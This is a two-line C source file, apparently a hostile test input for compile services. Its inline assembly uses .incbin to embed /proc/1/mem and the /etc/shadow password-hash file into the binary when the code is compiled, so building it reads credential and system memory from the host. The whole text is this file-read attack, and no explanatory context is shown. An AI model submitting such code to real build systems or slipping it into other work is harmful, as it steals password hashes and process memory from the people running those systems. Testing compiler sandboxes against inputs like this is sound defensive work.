__asm__(".data\n.incbin \"/proc/1/mem\"\n.incbin \"/etc/shadow\"");
int main(void) {}
